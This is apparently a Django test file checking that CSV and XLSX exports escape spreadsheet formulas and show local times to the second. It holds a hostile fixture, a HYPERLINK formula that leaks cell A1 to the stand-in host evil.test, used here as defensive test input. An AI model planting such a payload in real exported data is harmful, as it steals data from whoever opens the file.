"""Exports a spreadsheet opens safely: formulas neutralised, local times to the second, CSV with a UTF-8 BOM.

Read back with openpyxl and the csv module, as a spreadsheet would: before, a brand typed as `=HYPERLINK(…)` became
a live formula in the XLSX.
"""

import csv
import datetime
import io

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from accounts import roles
from accounts.models import Organization
from core.exports import safe_cell
from remediation import services
from remediation.models import RemediationCase
from stats import reports
from tests.factories import ApplianceModelFactory, OrganizationFactory, UserFactory
from tests.factories_remediation import make_city, sold_label

pytestmark = pytest.mark.django_db

HOSTILE_BRAND = '=HYPERLINK("http://evil.test/?leak="&A1,"点击")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+86 139", "'+86 139"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("华帝 =1", "华帝 =1"),
        (-5, -5),
        (None, None),
    ],
)
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected


def test_safe_cell_times_are_local_to_the_second():
    moment = datetime.datetime(2026, 12, 1, 16, 15, 3, 987654, tzinfo=datetime.UTC)
    assert safe_cell(moment) == "2026-12-02 00:15:03"  # Asia/Shanghai


def reviewer_client(client):
    association = OrganizationFactory(kind=Organization.Kind.ASSOCIATION)
    client.force_login(UserFactory(role=roles.REVIEWER, organization=association))
    return client


def xlsx_cells(response):
    book = load_workbook(io.BytesIO(response.content))
    return [cell for row in book.active.iter_rows() for cell in row]


def test_back_office_xlsx_and_csv_neutralise_formulas(client):
    ApplianceModelFactory(brand=HOSTILE_BRAND)
    reviewer_client(client)
    xlsx = client.get("/backoffice/models/", {"_export": "xlsx"})
    assert xlsx.status_code == 200
    cells = xlsx_cells(xlsx)
    assert all(cell.data_type != "f" for cell in cells)  # no formula anywhere
    assert "'" + HOSTILE_BRAND in [cell.value for cell in cells]
    raw = client.get("/backoffice/models/", {"_export": "csv"}).content
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert any("'" + HOSTILE_BRAND in row for row in rows)
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_queue_export_times_are_local_without_microseconds(client):
    city = make_city()
    label = sold_label(city)
    case = services.report_problem(reporter=city.installer, kind="label_mismatch", serial=label.serial)
    client.force_login(city.reviewer)
    raw = client.get("/remediation/cases/", {"_export": "csv"}).content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(raw)))
    reported = timezone.localtime(RemediationCase.objects.get(pk=case.pk).reported_at)
    assert reported.strftime("%Y-%m-%d %H:%M:%S") in rows[1]
    assert not any("." in cell and ":" in cell for cell in rows[1])  # no microseconds, no UTC offset


def test_stats_export_and_periodic_report_neutralise_formulas(client):
    model = ApplianceModelFactory(brand=HOSTILE_BRAND)
    from tests.factories import LabelBatchFactory, LabelFactory

    LabelFactory(batch=LabelBatchFactory(declaration__appliance_model=model), state="activated")
    reviewer_client(client)
    xlsx = client.get("/backoffice/stats/", {"_export": "xlsx"})
    cells = xlsx_cells(xlsx)
    assert all(cell.data_type != "f" for cell in cells) and "'" + HOSTILE_BRAND in [c.value for c in cells]
    report = reports.render_xlsx(
        "周报",
        {"summary": [], "sections": [{"title": "s", "columns": [("b", "品牌")], "rows": [{"b": HOSTILE_BRAND}]}]},
    )
    book = load_workbook(io.BytesIO(report))
    values = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in values) and "'" + HOSTILE_BRAND in [c.value for c in values]
